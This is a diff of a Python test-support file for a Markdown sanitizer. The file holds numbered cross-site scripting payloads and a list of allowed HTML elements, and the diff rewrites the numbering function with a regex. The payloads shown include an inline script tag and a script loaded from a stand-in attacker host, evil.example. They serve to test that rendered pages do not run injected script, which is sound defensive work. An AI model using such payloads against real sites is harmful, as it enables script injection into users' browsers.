@@ -1,5 +1,7 @@
 """Texts that a careless page would run or load. Each has its number in place of N, so that it is known which one did."""
 
+import re
+
 TEXTS = (
     "<script>window.hit = N</script>",
     "<script src=https://evil.example/N.js></script>",
@@ -78,10 +80,10 @@ TEXTS = (
 )
 # The elements that Markdown may become.
 ELEMENTS = {
-    "p", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "pre", "code", "hr", "br", "em", "strong", "del", "a", "span",
-    "table", "thead", "tbody", "tr", "th", "td",
+    "p", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "pre", "code", "hr", "br", "em", "strong", "del",
+    "a", "span", "table", "thead", "tbody", "tr", "th", "td",
 }  # fmt: skip
 
 
 def numbered() -> list[str]:
-    return [text.replace("hit = N", f"hit = {i}").replace("hit=N", f"hit={i}").replace("/N", f"/{i}") for i, text in enumerate(TEXTS, 1)]
+    return [re.sub(r"(?<=hit = )N|(?<=hit=)N|(?<=/)N", str(number), text) for number, text in enumerate(TEXTS, 1)]
